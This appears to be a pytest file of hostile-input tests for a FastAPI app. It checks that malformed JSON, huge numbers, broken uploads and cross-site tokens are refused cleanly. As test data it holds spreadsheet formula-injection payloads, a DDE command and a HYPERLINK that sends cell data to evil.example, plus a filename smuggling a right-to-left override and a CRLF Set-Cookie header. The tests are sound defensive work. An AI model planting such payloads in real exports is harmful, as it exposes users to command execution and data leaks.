"""A hostile sweep of the running app (2026-12-05): each way it found to get a 500, a half-saved write, a
leak or a trick, on SQLite and PostgreSQL. The earlier sweep is tests/api/test_hostile.py; the generated
one tests/api/test_schemathesis.py.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from PIL import Image

from tests.support.api import bearer, create, make_link
from tests.support.clicks import click_wav, stored_audio
from tests.support.studies import answer_all, finished_render, participant, study

SURROGATE = "a\ud800b"  # json.dumps sends it as the escape \ud800, which JSON allows and UTF-8 cannot store
HUGE_VERSION = 99999999999999999999999
JSON = {"content-type": "application/json"}
HX = {"HX-Request": "true"}


def _json(client: TestClient, method: str, url: str, body: Any, **headers: str) -> Any:
    """`body` sent as JSON text as json.dumps writes it (lone surrogates as escapes)."""
    return client.request(
        method, url, content=json.dumps(body), headers={"content-type": "application/json", **headers}
    )


def _refused(response: Any, field: str) -> None:
    assert response.status_code == 422, (response.status_code, response.text)
    assert field in response.json()["errors"], response.text


def test_nul_and_lone_surrogates_in_notes_studies_and_answers_are_422_naming_the_field(
    client: TestClient,
) -> None:
    tid = create(client)["id"]
    note = client.post(f"/api/transitions/{tid}/notes", json={"t": 0.5, "text": "fine"}).json()
    for bad in (SURROGATE, "a\x00b"):
        _refused(_json(client, "POST", f"/api/transitions/{tid}/notes", {"t": 0.5, "text": bad}), "text")
        body = {"t": 0.5, "text": "ok", "author": bad}
        _refused(_json(client, "POST", f"/api/transitions/{tid}/notes", body), "author")
        _refused(_json(client, "POST", f"/api/notes/{note['id']}/replies", {"text": bad}), "text")
        _refused(_json(client, "PATCH", f"/api/notes/{note['id']}", {"text": bad}), "text")
    listed = client.get(f"/api/transitions/{tid}/notes").json()
    assert [(n["text"], n["author"], n["replies"]) for n in listed] == [("fine", "", [])]

    render_id = finished_render(client)
    base = {"title": "T", "render_ids": [render_id], "tasks": ["triplets"], "triplets": 2}
    for field in ("title", "instructions", "concept"):
        _refused(_json(client, "POST", "/api/studies", {**base, field: SURROGATE}), field)
    assert client.get("/api/studies").json() == []
    made = study(client, [render_id], triplets=2)
    _refused(_json(client, "POST", f"/api/studies/{made['id']}/participants", {"label": SURROGATE}), "label")
    token = participant(client, made["id"])["token"]
    item = client.get(f"/api/p/{token}/next").json()
    answer = {"item_id": item["item_id"], "answer": 0, "ms": 10, "comment": SURROGATE}
    _refused(_json(client, "POST", f"/api/p/{token}/answers", answer), "comment")
    assert client.get(f"/api/studies/{made['id']}/answers").json() == []


def test_a_version_past_the_column_or_in_other_digits_is_422_never_500(client: TestClient) -> None:
    transition = create(client)
    tid, start = transition["id"], transition["keyframes"][0]["id"]
    middle = client.post(f"/api/transitions/{tid}/keyframes", json={"position": 0.5, "prompt": "a bridge"})
    assert middle.status_code == 201
    keyframe = middle.json()["id"]
    version = client.get(f"/api/transitions/{tid}").json()["version"]

    _refused(client.patch(f"/api/transitions/{tid}", json={"frames": 5, "version": HUGE_VERSION}), "version")
    body = {"position": 0.7, "prompt": "x", "version": HUGE_VERSION}
    _refused(client.post(f"/api/transitions/{tid}/keyframes", json=body), "version")
    # Headers travel as Latin-1: b"\xb2" is read as "²", which str.isdigit() takes for a digit.
    for header in (str(HUGE_VERSION).encode(), '"²"'.encode("latin-1"), b"\xb2", str(2**31).encode()):
        for method, url, payload in (
            ("PATCH", f"/api/transitions/{tid}", {"frames": 6}),
            ("POST", f"/api/transitions/{tid}/undo", None),
            ("PATCH", f"/api/keyframes/{start}", {"prompt": "y"}),
        ):
            response = client.request(method, url, json=payload, headers={"If-Match": header})
            _refused(response, "If-Match")
            assert "1 to 2147483647" in response.json()["errors"]["If-Match"]
    # The page forms: a version past the column, or one that is no number, is a 422 (never "no version").
    for url, form in (
        (f"/transitions/{tid}/settings", {"frames": "6", "version": str(HUGE_VERSION)}),
        (f"/keyframes/{keyframe}", {"prompt": "z", "version": str(HUGE_VERSION)}),
        (f"/keyframes/{keyframe}/delete", {"version": str(HUGE_VERSION)}),
    ):
        response = client.post(url, data=form, headers=HX)
        assert response.status_code == 422, (url, response.status_code, response.text[:300])
    assert client.get(f"/api/transitions/{tid}").json()["version"] == version  # nothing was written
    for junk in ("²", "abc", "-5"):
        kept = client.post(f"/keyframes/{keyframe}/delete", data={"version": junk}, headers=HX)
        assert kept.status_code == 422 and "version must be a transition version" in kept.text
        for action in ("undo", "audio/remove"):
            refused = client.post(f"/transitions/{tid}/{action}", data={"version": junk}, headers=HX)
            assert refused.status_code == 422 and "version must be a transition version" in refused.text
    assert client.get(f"/api/keyframes/{keyframe}").status_code == 200
    assert client.get(f"/api/transitions/{tid}").json()["version"] == version


def test_superscript_ids_in_forms_are_refused_not_500(client: TestClient) -> None:
    render_id = finished_render(client)
    response = client.post("/studies", data={"title": "s", "render_ids": "²", "tasks": "rate"})
    assert response.status_code == 422 and "render_ids" in response.text
    form = {"title": "s", "render_ids": [str(render_id), "²"], "tasks": "rate"}
    assert client.post("/studies", data=form, follow_redirects=False).status_code == 303


def test_json_nested_too_deeply_or_with_huge_numbers_is_the_documented_422(client: TestClient) -> None:
    tid = create(client)["id"]
    keyframe = client.get(f"/api/transitions/{tid}").json()["keyframes"][0]["id"]
    deep = b"[" * 100_000 + b"]" * 100_000
    for method, url in (
        ("POST", "/api/transitions"),
        ("PATCH", f"/api/transitions/{tid}"),
        ("POST", f"/api/transitions/{tid}/keyframes"),
        ("PATCH", f"/api/keyframes/{keyframe}"),
        ("POST", "/api/projects"),
        ("POST", f"/api/transitions/{tid}/notes"),
    ):
        response = client.request(method, url, content=deep, headers={"content-type": "application/json"})
        assert response.status_code == 422, (url, response.status_code, response.text[:200])
        assert set(response.json()) == {"detail", "errors"} and "body" in response.json()["errors"], url
    long_number = b'{"start_prompt": "a", "end_prompt": "b", "frames": ' + b"9" * 5000 + b"}"
    response = client.post(
        "/api/transitions", content=long_number, headers={"content-type": "application/json"}
    )
    assert response.status_code == 422 and "too many digits" in response.json()["errors"]["body"]
    assert "sys.set_int_max_str_digits" not in response.text
    imported = client.post("/projects/import", files={"project": ("p.segue.json", deep, "application/json")})
    assert imported.status_code == 422


def test_a_keyframe_time_no_clock_shows_is_a_422_with_the_range(client: TestClient) -> None:
    tid = create(client)["id"]
    for time in (1e308, 1e20):
        response = client.post(f"/api/transitions/{tid}/keyframes", json={"time": time, "prompt": "x"})
        _refused(response, "time")
    keyframe = client.post(f"/api/transitions/{tid}/keyframes", json={"position": 0.5, "prompt": "x"}).json()
    _refused(client.patch(f"/api/keyframes/{keyframe['id']}", json={"time": 1e308}), "time")


def test_study_answers_csv_keeps_formulas_as_text(client: TestClient) -> None:
    render_id = finished_render(client)
    made = study(client, [render_id], tasks=["rate"])
    token = participant(client, made["id"], label="=cmd|' /C calc'!A0")["token"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    item = client.get(f"/api/p/{token}/next").json()
    sent = client.post(
        f"/api/p/{token}/answers",
        json={"item_id": item["item_id"], "answer": 3, "ms": 900, "comment": formula},
    )
    assert sent.status_code == 201, sent.text
    answer_all(client, token, lambda item: 4)
    text = client.get(f"/api/studies/{made['id']}/answers.csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and rows[0]["comment"] == "'" + formula and rows[0]["answer"] == "3"
    assert all(r["participant"] == "'=cmd|' /C calc'!A0" for r in rows)
    # The JSON export keeps what was typed.
    answers = client.get(f"/api/studies/{made['id']}/answers").json()
    assert answers[0]["comment"] == formula and answers[0]["participant"] == "=cmd|' /C calc'!A0"


def test_an_imported_keyframe_image_has_the_size_of_its_bytes(client: TestClient) -> None:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 200, 30)).save(buffer, format="PNG")
    data = buffer.getvalue()
    sha = hashlib.sha256(data).hexdigest()
    project = client.get(f"/api/transitions/{create(client)['id']}/project").json()
    project["images"] = {sha: base64.b64encode(data).decode()}
    project["keyframes"][0]["image"] = {"sha256": sha, "width": 10**12, "height": 10**12}
    imported = client.post("/api/projects", json=project)
    assert imported.status_code == 201, imported.text
    start = imported.json()["keyframes"][0]["id"]
    image = client.get(f"/api/keyframes/{start}").json()["image"]
    assert (image["width"], image["height"], image["sha256"]) == (64, 48, sha)


def test_another_transitions_object_is_missing_under_its_own_name(client: TestClient) -> None:
    mine, other = create(client)["id"], create(client)["id"]
    render_id = client.post(f"/api/transitions/{other}/renders").json()["id"]
    h = bearer(make_link(client, mine, "edit"))
    response = client.get(f"/api/renders/{render_id}", headers=h)
    assert response.status_code == 404
    assert response.json()["detail"] == f"render {render_id} does not exist"
    assert f"transition {other}" not in response.text
    compare = client.get(f"/renders/compare?a={render_id}&b={render_id}", headers=h)
    assert compare.status_code == 404 and f"transition {other}" not in compare.text


def test_a_soundtrack_refused_for_a_stale_version_stores_nothing(client: TestClient) -> None:
    tid = create(client)["id"]
    data, _ = click_wav(2.0)
    stale = client.put(
        f"/api/transitions/{tid}/audio",
        files={"audio": ("a.wav", data, "audio/wav")},
        headers={"If-Match": "99"},
    )
    assert stale.status_code == 409, stale.text
    assert stored_audio() == []
    fine = client.put(f"/api/transitions/{tid}/audio", files={"audio": ("a.wav", data, "audio/wav")})
    assert fine.status_code == 200 and len(stored_audio()) == 2  # the file and its analysis


def test_a_broken_upload_is_refused_in_words_without_object_reprs(client: TestClient) -> None:
    tid = create(client)["id"]
    keyframe = client.get(f"/api/transitions/{tid}").json()["keyframes"][0]["id"]
    header_only = b"\x89PNG\r\n\x1a\n" + b"\x00" * 25
    image = client.patch(f"/api/keyframes/{keyframe}", files={"image": ("x.png", header_only, "image/png")})
    _refused(image, "image")
    assert "object at 0x" not in image.text and "BytesIO" not in image.text
    audio = client.put(
        f"/api/transitions/{tid}/audio", files={"audio": ("a.wav", b"RIFF" + b"x" * 60, "audio/wav")}
    )
    _refused(audio, "audio")
    assert "Errno" not in audio.text and "<none>" not in audio.text


def test_multipart_bodies_that_cannot_be_read_are_the_documented_422(client: TestClient) -> None:
    tid = create(client)["id"]
    keyframe = client.get(f"/api/transitions/{tid}").json()["keyframes"][0]["id"]
    no_boundary = client.patch(
        f"/api/keyframes/{keyframe}", content=b"x", headers={"content-type": "multipart/form-data"}
    )
    assert no_boundary.status_code == 422 and "body" in no_boundary.json()["errors"]
    two = [("image", ("a.png", b"1", "image/png")), ("image", ("b.png", b"2", "image/png"))]
    assert client.patch(f"/api/keyframes/{keyframe}", files=two).status_code == 422


def test_wrong_link_tokens_from_another_site_do_not_lock_out_the_person(client: TestClient) -> None:
    tid = create(client)["id"]
    link = make_link(client, tid, "view")
    cross = {"Sec-Fetch-Site": "cross-site"}
    for i in range(12):  # another site's page loading /s/<wrong token> in the person's browser
        client.get(f"/s/wrong-token-{i}", headers=cross, follow_redirects=False)
    assert client.get("/s/wrong-token-x", headers=cross, follow_redirects=False).status_code == 429
    assert client.get(f"/api/transitions/{tid}", headers=bearer(link)).status_code == 200
    for i in range(12):  # the same from the address itself still counts, and locks out
        client.get(f"/api/transitions/{tid}", headers={"Authorization": f"Bearer wrong-{i}"})
    assert client.get(f"/api/transitions/{tid}", headers=bearer(link)).status_code == 429


@pytest.mark.parametrize("cursor", [b"9" * 25, b"\xb2", b"1-2-3", b"-1", b"99999999999999999999-1"])
def test_a_last_event_id_no_stream_holds_reads_from_the_start(client: TestClient, cursor: bytes) -> None:
    from tests.support.sse import read_sse

    tid = create(client)["id"]
    render_id = client.post(f"/api/transitions/{tid}/renders").json()["id"]
    assert client.post(f"/api/renders/{render_id}/cancel").status_code == 200
    url = f"/api/renders/{render_id}/events"
    from_the_start = read_sse(client, url)
    assert [e["event"] for e in from_the_start] == ["progress", "cancelled"]
    # Not only the ending the stream makes up when it cannot read (marked "replayed"): every event.
    assert read_sse(client, url, headers={"Last-Event-ID": cursor}) == from_the_start  # type: ignore[dict-item]


def test_download_names_drop_format_and_control_characters() -> None:
    from services.exports import content_disposition

    header = content_disposition("x.html\u202egpj.exe\r\nSet-Cookie: a=b", 3, "mp4")
    assert "\u202e" not in header and "%E2%80%AE" not in header.upper()
    assert "\r" not in header and "\n" not in header and "%0D" not in header.upper()


def test_plain_reasons_keep_the_words_and_drop_the_internals() -> None:
    from core.uploads import plain_reason

    assert plain_reason(OSError("cannot identify image file <_io.BytesIO object at 0x7fda12ab>")) == (
        "cannot identify image file"
    )
    errno = Exception("[Errno 1094995529] Invalid data found when processing input: '<none>'")
    assert plain_reason(errno) == "Invalid data found when processing input"
    assert plain_reason(ValueError("")) == "ValueError"


def test_the_redis_bus_reads_from_the_start_after_a_cursor_that_is_no_stream_id() -> None:
    from infra.bus import _is_stream_id

    assert all(_is_stream_id(c) for c in ("0-0", "1733380000000-3", "5", "18446744073709551615-0"))
    bad = ("", "²", "1-2-3", "-1", "x-1", "18446744073709551616-0", "9" * 21)
    assert not any(_is_stream_id(c) for c in bad)


def test_keyframe_forms_show_a_bad_time_or_hold_under_its_field_with_what_was_typed(
    client: TestClient,
) -> None:
    transition = create(client)
    tid = transition["id"]
    for form, field, typed in (
        ({"position": "0:99", "prompt": "x"}, "position", "0:99"),
        ({"position": "0.3", "prompt": "x", "hold_frames": "-1s"}, "hold_frames", "-1s"),
        ({"position": "0.3", "prompt": "x", "version": "abc"}, "keyframe", "0.3"),
    ):
        response = client.post(f"/transitions/{tid}/keyframes", data=form, headers=HX)
        assert response.status_code == 422, response.text[:300]
        assert f'id="{field}-error"' in response.text, (field, response.text[-2000:])
        assert f'value="{typed}"' in response.text
    assert len(client.get(f"/api/transitions/{tid}").json()["keyframes"]) == 2  # nothing was added
    middle = client.post(f"/api/transitions/{tid}/keyframes", json={"position": 0.5, "prompt": "a bridge"})
    kid = middle.json()["id"]
    edited = client.post(f"/keyframes/{kid}", data={"position": "0:99", "prompt": "y"}, headers=HX)
    assert edited.status_code == 422 and f'id="{kid}.position-error"' in edited.text
    assert client.get(f"/api/keyframes/{kid}").json()["prompt"] == "a bridge"


def test_a_notes_status_form_with_junk_answers_html_on_the_note(client: TestClient) -> None:
    tid = create(client)["id"]
    note = client.post(f"/api/transitions/{tid}/notes", json={"t": 0.5, "text": "hold"}).json()
    response = client.post(f"/notes/{note['id']}/status", data={"status": "junk"}, headers=HX)
    assert response.status_code == 422 and response.headers["content-type"].startswith("text/html")
    assert "status must be one of: open, resolved" in response.text
    assert client.get(f"/api/transitions/{tid}/notes").json()[0]["status"] == "open"


def test_a_project_file_with_a_number_of_too_many_digits_is_refused_in_words(client: TestClient) -> None:
    data = b'{"segue_project": 1, "a": ' + b"9" * 5000 + b"}"
    for response in (
        client.post("/api/projects", content=data, headers=JSON),
        client.post("/projects/import", files={"project": ("p.segue.json", data, "application/json")}),
    ):
        assert response.status_code == 422 and "too many digits" in response.text
        assert "set_int_max_str_digits" not in response.text


def test_a_view_link_is_not_shown_an_export_form_it_may_not_use(client: TestClient) -> None:
    from tests.support.renders import finish_by_hand

    tid = create(client)["id"]
    render_id = client.post(f"/api/transitions/{tid}/renders").json()["id"]
    finish_by_hand(render_id)
    assert 'class="export-form' in client.get(f"/renders/{render_id}/export-panel").text  # the owner
    h = bearer(make_link(client, tid, "view"))
    panel = client.get(f"/renders/{render_id}/export-panel", headers=h)
    assert panel.status_code == 200 and "Export render" in panel.text
    assert 'class="export-form' not in panel.text
    assert client.post(f"/renders/{render_id}/exports", data={"format": "gif"}, headers=h).status_code == 403


def test_a_page_address_with_a_bad_value_answers_a_page_naming_it(client: TestClient) -> None:
    tid = create(client)["id"]
    page = {"Accept": "text/html,application/xhtml+xml"}
    for url, field in (
        ("/?page=abc", "page"),
        (f"/transitions/{tid}?render=abc", "render"),
        ("/frames/1/-1", "index"),
    ):
        response = client.get(url, headers=page)
        assert response.status_code == 422 and response.headers["content-type"].startswith("text/html"), url
        assert "This address is not valid" in response.text
        assert f'data-field="{field}">{field}' in response.text
        assert client.get(url).headers["content-type"].startswith("application/json")  # an API client's
        assert client.get(url, headers={**page, **HX}).headers["content-type"].startswith("application/json")
